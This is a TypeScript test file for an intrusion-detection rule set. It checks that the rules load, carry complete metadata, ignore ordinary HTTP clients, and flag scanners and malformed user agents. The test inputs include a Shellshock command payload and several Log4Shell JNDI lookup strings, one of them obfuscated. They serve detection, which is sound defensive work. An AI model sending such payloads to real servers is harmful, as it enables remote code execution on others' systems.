// SPDX-License-Identifier: Apache-2.0
// The rules that are shipped: they load whole, say what they are about, and leave honest clients alone.

import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { compileRules, createEvaluator, parseHttpRequest, type Compilation } from '../../../rules/index.js';

const folder = ['rules', '../rules', '../../rules', '../../../rules', '../../../../rules']
  .map((path) => join(import.meta.dirname, '..', path))
  .find((path) => existsSync(join(path, 'scans.rules')));
if (folder === undefined) throw new Error('the default rules are not there');
const sources = readdirSync(folder)
  .filter((file) => file.endsWith('.rules'))
  .map((file) => ({ file, text: readFileSync(join(folder, file), 'utf8') }));

function compile(home: string): Compilation {
  const options = {
    addressVars: { HOME_NET: home, EXTERNAL_NET: '!$HOME_NET' },
    portVars: {},
    redact: ['authorization'],
  };
  return compileRules(sources, options);
}

t.test('all of them load, whatever HOME_NET is', async (t) => {
  const homes = [
    '10.0.0.2',
    '198.51.100.7',
    '[10.0.0.0/8,172.16.0.0/12,192.168.0.0/16]',
    '[203.0.114.9,2001:db8::1]',
    'fe80::1',
    'any',
  ];
  for (const home of homes) {
    const { problems, summary } = compile(home);
    t.same(problems, [], home);
    t.equal(summary.usable, summary.rules, home);
    t.ok(summary.rules > 100, `${summary.rules} rules`);
  }
});

t.test('each says what it is about', async (t) => {
  const { rules } = compile('10.0.0.2');
  const sids = new Set<number>();
  for (const rule of rules) {
    const severity = rule.metadata.find(([name]) => name === 'severity')?.[1] ?? '';
    const fine =
      rule.sid >= 9_000_000 &&
      rule.sid < 10_000_000 &&
      !sids.has(rule.sid) &&
      rule.rev >= 1 &&
      rule.msg.startsWith('IDS ') &&
      rule.classtype !== undefined &&
      rule.priority >= 1 &&
      rule.priority <= 3 &&
      ['critical', 'major', 'minor'].includes(severity) &&
      rule.references.length > 0;
    sids.add(rule.sid);
    if (!fine) t.fail(`rule ${rule.sid} lacks something`, rule);
  }
  t.equal(sids.size, rules.length, 'each has a sid of its own');
});

const evaluator = createEvaluator(compile('10.0.0.2').engine);
const { rules } = compile('10.0.0.2');
const packet = { src: 0xffff0a000001n, dst: 0xffff0a000002n, sport: 40000, dport: 80, proto: 6 };

function raised(lines: string): number[] {
  const request = parseHttpRequest(Uint8Array.from(Buffer.from(lines, 'latin1')));
  if (request === undefined) throw new Error('no request');
  return evaluator.judge(request, packet, undefined, 0).map((match) => rules[match.rule]?.sid ?? 0);
}

const withAgent = (agent: string): string =>
  `GET / HTTP/1.1\r\nHost: 10.0.0.2\r\nUser-Agent: ${agent}\r\nAccept: */*\r\n\r\n`;

t.test('honest clients raise nothing', async (t) => {
  const agents = [
    'curl/8.5.0',
    'Wget/1.21.4',
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
    'python-requests/2.32.3',
    'Python-urllib/3.12',
    'python-httpx/0.27.0',
    'Go-http-client/1.1',
    'Java/17.0.11',
    'okhttp/4.12.0',
    'Apache-HttpClient/5.3',
    'node',
    'undici',
    'axios/1.7.2',
    'libwww-perl/6.72',
    'PostmanRuntime/7.39.0',
    'Debian APT-HTTP/1.3 (2.6.1)',
    'kube-probe/1.30',
    'Prometheus/2.53.0',
    'Googlebot/2.1 (+http://www.google.com/bot.html)',
    'WiFiMap/7.1 (Android 14)',
    'ApacheBench/2.3',
  ];
  for (const agent of agents) t.same(raised(withAgent(agent)), [], agent);
  t.same(raised('GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'), [], 'no agent at all, as Node sends it');
  t.same(raised('GET /health HTTP/1.0\r\n\r\n'), [], 'nothing at all');
});

t.test('attack tools and malformed agents are named', async (t) => {
  const cases: [string, number][] = [
    ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', 9002002],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 9002001],
    ['sqlmap/1.8.4#stable (https://sqlmap.org)', 9002038],
    ['Fuzz Faster U Fool v2.1.0', 9002030],
    ['() { :;}; /bin/bash -c "id"', 9002050],
    ['${jndi:ldap://198.51.100.1/a}', 9002051],
    ['${${lower:j}ndi:ldap://198.51.100.1/a}', 9002052],
    ['', 9002057],
    ['-', 9002058],
    ['User-Agent: Mozilla/5.0', 9002059],
    ['x'.repeat(1025), 9002061],
  ];
  for (const [agent, sid] of cases) t.same(raised(withAgent(agent)), [sid], agent.slice(0, 40));
});

const lists = join(folder, '../../shared/data/lists');

t.test(
  'lists of benign agents raise nothing',
  { skip: existsSync(lists) ? false : 'the lists are not there' },
  async (t) => {
    const agents = readFileSync(join(lists, 'crs-popularUAs.data'), 'latin1').split('\n');
    const crawlers = JSON.parse(readFileSync(join(lists, 'crawler-user-agents.json'), 'utf8')) as {
      instances: string[];
    }[];
    const tools =
      /zgrab|l9explore|l9tcpid|CensysInspect|Nuclei|WhatWeb|Nessus|masscan|httpx|Nikto|fuzz|scan|Nmap|sqlmap|ZmEu|acunetix|DirBuster|OpenVAS/i;
    let judged = 0;
    for (const agent of [...agents, ...crawlers.flatMap(({ instances }) => instances)]) {
      if (agent.trim() === '' || agent.startsWith('#') || tools.test(agent)) continue;
      judged++;
      const sids = raised(withAgent(agent.trim()));
      if (sids.length > 0) t.fail(`${agent} raises ${sids.join()}`);
    }
    t.ok(judged > 1000, `${judged} agents`);
  },
);
